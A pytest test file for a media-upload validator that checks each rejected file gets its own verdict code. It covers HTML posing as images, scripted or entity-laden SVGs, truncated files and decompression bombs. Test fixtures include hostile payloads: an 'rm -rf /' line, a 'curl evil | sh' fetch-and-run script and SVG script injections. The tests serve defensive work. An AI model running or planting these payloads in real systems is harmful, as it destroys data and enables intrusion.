"""Every way a file is refused has its own code, and nothing crashes on hostile bytes."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from domain.assets import media
from domain.assets.media import Kind, MediaRejected, Verdict
from tests.domain.media import corpus


def _rejected(path: Path, declared_type: str = "", filename: str = "") -> MediaRejected:
    with pytest.raises(MediaRejected) as caught:
        media.process(path, declared_type=declared_type, filename=filename)
    return caught.value


def test_a_zero_byte_file_is_empty(tmp_path: Path) -> None:
    empty = corpus.write(tmp_path / "empty.jpg", b"")
    assert _rejected(empty, declared_type="image/jpeg").code == Verdict.EMPTY_FILE


def test_html_posing_as_a_png_is_active_content(tmp_path: Path) -> None:
    page = corpus.write(tmp_path / "cat.png", corpus.HTML_PAGE)
    rejected = _rejected(page, declared_type="image/png", filename="cat.png")
    assert rejected.code == Verdict.ACTIVE_CONTENT
    assert "HTML" in rejected.message
    assert "image/png" in rejected.message


@pytest.mark.parametrize(
    "svg", [corpus.SVG_SCRIPT, corpus.SVG_ONLOAD, corpus.SVG_ENCODED_HREF], ids=str
)
def test_svg_with_script_is_active_content(tmp_path: Path, svg: bytes) -> None:
    path = corpus.write(tmp_path / "logo.svg", svg)
    assert (
        _rejected(path, declared_type="image/svg+xml", filename="logo.svg").code
        == Verdict.ACTIVE_CONTENT
    )


def test_svg_with_script_far_into_a_large_file_is_found(tmp_path: Path) -> None:
    padding = b"<!-- " + b"x" * (3 * 1024 * 1024) + b" -->"
    svg = corpus.SVG_CLEAN.replace(b"<rect", padding + b"<script>alert(1)</script><rect")
    path = corpus.write(tmp_path / "big.svg", svg)
    assert _rejected(path, filename="big.svg").code == Verdict.ACTIVE_CONTENT


def test_svg_entities_are_active_content(tmp_path: Path) -> None:
    svg = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "&#60;script">]><svg>&x;</svg>'
    path = corpus.write(tmp_path / "entity.svg", svg)
    assert _rejected(path).code == Verdict.ACTIVE_CONTENT


def test_a_clean_svg_is_an_image_without_a_picture(tmp_path: Path) -> None:
    path = corpus.write(tmp_path / "logo.svg", corpus.SVG_CLEAN)
    analysis, renditions = media.process(path, declared_type="image/svg+xml", filename="logo.svg")
    assert (analysis.content_type, analysis.kind) == ("image/svg+xml", Kind.IMAGE)
    assert analysis.metadata == {"format": "svg", "width": 120, "height": 80}
    assert renditions == []


@pytest.mark.parametrize(
    ("declared", "filename"),
    [("text/html", "photo.jpg"), ("", "photo.html"), ("application/javascript", "x.jpg")],
)
def test_claiming_an_active_type_is_refused_whatever_the_bytes(
    tmp_path: Path, declared: str, filename: str
) -> None:
    # The object would be served back with the declared type: a JPEG served as text/html
    # is a page, and a polyglot JPEG can carry markup in a comment.
    photo = corpus.jpeg(tmp_path / "photo.jpg")
    rejected = _rejected(photo, declared_type=declared, filename=filename)
    assert rejected.code == Verdict.ACTIVE_CONTENT


@pytest.mark.parametrize(
    ("declared", "filename", "source"),
    [
        ("image/png", "photo.png", "declared type"),
        ("image/jpeg", "photo.png", "extension"),
        ("", "photo.gif", "extension"),
        ("application/pdf", "", "declared type"),
    ],
)
def test_a_claim_the_bytes_disagree_with_is_a_mismatch(
    tmp_path: Path, declared: str, filename: str, source: str
) -> None:
    photo = corpus.jpeg(tmp_path / "photo")
    rejected = _rejected(photo, declared_type=declared, filename=filename)
    assert rejected.code == Verdict.CONTENT_TYPE_MISMATCH
    assert source in rejected.message
    assert "image/jpeg" in rejected.message


def test_text_claiming_to_be_an_image_is_a_mismatch(tmp_path: Path) -> None:
    script = corpus.write(tmp_path / "x.png", "import os\nos.system('rm -rf /')\n")
    rejected = _rejected(script, declared_type="image/png", filename="x.png")
    assert rejected.code == Verdict.CONTENT_TYPE_MISMATCH


def test_a_shell_script_posing_as_an_image_is_active_content(tmp_path: Path) -> None:
    script = corpus.write(tmp_path / "x.png", "#!/bin/sh\ncurl evil | sh\n")
    assert _rejected(script, declared_type="image/png").code == Verdict.ACTIVE_CONTENT


def test_generic_claims_assert_nothing(tmp_path: Path) -> None:
    photo = corpus.jpeg(tmp_path / "upload.bin")
    analysis = media.analyse(photo, declared_type="application/octet-stream", filename="upload.bin")
    assert (analysis.content_type, analysis.kind) == ("image/jpeg", Kind.IMAGE)


def test_aliases_and_parameters_agree(tmp_path: Path) -> None:
    photo = corpus.jpeg(tmp_path / "photo.JPG")
    analysis = media.analyse(photo, declared_type="image/JPG; charset=binary", filename="a.JPG")
    assert analysis.content_type == "image/jpeg"


def test_an_executable_is_unsupported(tmp_path: Path) -> None:
    program = corpus.write(tmp_path / "tool", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200)
    assert _rejected(program, filename="tool").code == Verdict.UNSUPPORTED_TYPE


def test_an_office_document_keeps_its_declared_type(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    path = corpus.write(tmp_path / "report.docx", buffer.getvalue())
    analysis, renditions = media.process(path, declared_type=docx, filename="report.docx")
    assert (analysis.content_type, analysis.kind, renditions) == (docx, Kind.OTHER, [])


def test_unknown_bytes_with_an_unknown_claim_are_other(tmp_path: Path) -> None:
    blob = corpus.write(tmp_path / "model.bin", b"\x00\x01\x02\x03" * 100)
    analysis = media.analyse(blob, declared_type="application/x-custom-model", filename="m.bin")
    assert (analysis.content_type, analysis.kind) == ("application/octet-stream", Kind.OTHER)


def test_unknown_bytes_claiming_a_known_type_are_a_mismatch(tmp_path: Path) -> None:
    blob = corpus.write(tmp_path / "x", b"\x00\x01\x02\x03" * 100)
    rejected = _rejected(blob, declared_type="image/png")
    assert rejected.code == Verdict.CONTENT_TYPE_MISMATCH
    assert "not a format Depot recognises" in rejected.message


def test_unknown_bytes_claiming_audio_are_checked_by_the_decoder(tmp_path: Path) -> None:
    blob = corpus.write(tmp_path / "x.xyz", b"\x00\x01\x02\x03" * 100)
    assert _rejected(blob, declared_type="audio/x-foo").code == Verdict.CONTENT_TYPE_MISMATCH


def test_a_truncated_jpeg_is_corrupt(tmp_path: Path) -> None:
    whole = corpus.jpeg(tmp_path / "whole.jpg", 800, 600).read_bytes()
    cut = corpus.write(tmp_path / "cut.jpg", whole[: len(whole) // 2])
    analysis = media.analyse(cut, declared_type="image/jpeg")  # the header is intact
    assert analysis.metadata["width"] == 800
    with pytest.raises(MediaRejected) as caught:
        media.render(analysis)
    assert caught.value.code == Verdict.CORRUPT_FILE
    assert "truncated" in caught.value.message


@pytest.mark.parametrize("image_format", ["PNG", "GIF", "WEBP", "TIFF", "AVIF", "HEIF"])
def test_truncated_images_of_every_format_are_corrupt(tmp_path: Path, image_format: str) -> None:
    path = tmp_path / f"whole.{image_format.lower()}"
    corpus.save(corpus.photo(400, 300), path, image_format)
    whole = path.read_bytes()
    for cut_at in (len(whole) // 2, 40):
        cut = corpus.write(tmp_path / f"cut-{cut_at}", whole[:cut_at])
        assert _rejected(cut).code == Verdict.CORRUPT_FILE


def test_garbage_after_a_valid_signature_is_corrupt(tmp_path: Path) -> None:
    for signature in (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"%PDF-1.4\n", b"GIF89a"):
        path = corpus.write(tmp_path / "junk", signature + bytes(range(256)) * 8)
        assert _rejected(path).code == Verdict.CORRUPT_FILE


def test_a_truncated_video_is_corrupt(tmp_path: Path) -> None:
    whole = corpus.video(tmp_path / "whole.mp4", seconds=1).read_bytes()
    cut = corpus.write(tmp_path / "cut.mp4", whole[: len(whole) // 2])
    assert _rejected(cut, declared_type="video/mp4").code == Verdict.CORRUPT_FILE


def test_a_truncated_pdf_is_corrupt(tmp_path: Path) -> None:
    whole = corpus.pdf(tmp_path / "a.pdf", ["one"], title="T", author="A").read_bytes()
    cut = corpus.write(tmp_path / "cut.pdf", whole[:60])
    assert _rejected(cut, declared_type="application/pdf").code == Verdict.CORRUPT_FILE


@pytest.fixture
def pillow_limit_off() -> Iterator[None]:
    # processing.py turns Pillow's own bomb check off; ours must hold without it.
    saved = Image.MAX_IMAGE_PIXELS
    Image.MAX_IMAGE_PIXELS = None
    yield
    Image.MAX_IMAGE_PIXELS = saved


@pytest.mark.parametrize("pillow_check", ["on", "off"])
def test_a_decompression_bomb_is_refused_from_its_header(
    tmp_path: Path, request: pytest.FixtureRequest, pillow_check: str
) -> None:
    if pillow_check == "off":
        request.getfixturevalue("pillow_limit_off")
    bomb = corpus.png_bomb(tmp_path / "bomb.png")
    assert bomb.stat().st_size < 50_000
    rejected = _rejected(bomb, declared_type="image/png")
    assert rejected.code == Verdict.IMAGE_TOO_LARGE
    assert "400000000 pixels" in rejected.message or "20000x20000" in rejected.message


def test_the_pixel_limit_is_a_parameter(tmp_path: Path) -> None:
    photo = corpus.jpeg(tmp_path / "photo.jpg", 640, 480)
    with pytest.raises(MediaRejected) as caught:
        media.analyse(photo, max_pixels=640 * 480 - 1)
    assert caught.value.code == Verdict.IMAGE_TOO_LARGE
    assert "640x480" in caught.value.message
    assert media.analyse(photo, max_pixels=640 * 480).kind == Kind.IMAGE


def test_random_bytes_behind_every_signature_never_crash(tmp_path: Path) -> None:
    """Hostile input: whatever happens, a verdict or a result, never another exception."""
    signatures = [b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"II*\x00",
                  b"RIFF\x00\x00\x00\x00WEBPVP8 ", b"%PDF-1.7\n", b"ID3\x03", b"fLaC",
                  b"OggS", b"\x1aE\xdf\xa3", b"\x00\x00\x00\x18ftypisom",
                  b"\x00\x00\x00\x18ftypheic", b"\x00\x00\x00\x18ftypavif", b"BM"]  # fmt: skip
    noise = Image.effect_noise((64, 64), 100).tobytes()
    codes = []
    for index, signature in enumerate(signatures):
        path = corpus.write(tmp_path / f"hostile-{index}", signature + noise)
        try:
            media.process(path)
            codes.append("accepted")
        except MediaRejected as rejected:
            codes.append(rejected.code)
    assert set(codes) <= {*Verdict, "accepted"}
    assert codes.count(Verdict.CORRUPT_FILE) >= len(signatures) - 3


def test_metadata_is_plain_json_for_every_kind(tmp_path: Path) -> None:
    files = [
        corpus.jpeg(tmp_path / "a.jpg", orientation=3, make="Nikon", gps=(-33.86, 151.21)),
        corpus.pdf(tmp_path / "a.pdf", ["text"], title="T", author="A"),
        corpus.video(tmp_path / "a.mp4", seconds=1),
        corpus.audio(tmp_path / "a.flac", "flac", tags={"title": "T"}),
        corpus.write(tmp_path / "a.csv", "a,b\n1,2\n"),
        corpus.write(tmp_path / "a.svg", corpus.SVG_CLEAN),
    ]
    for path in files:
        metadata = media.analyse(path, filename=path.name, allow_gps=True).metadata
        # allow_nan=False: Postgres' JSON type refuses NaN, so a NaN must never get this far.
        assert json.loads(json.dumps(metadata, allow_nan=False)) == metadata
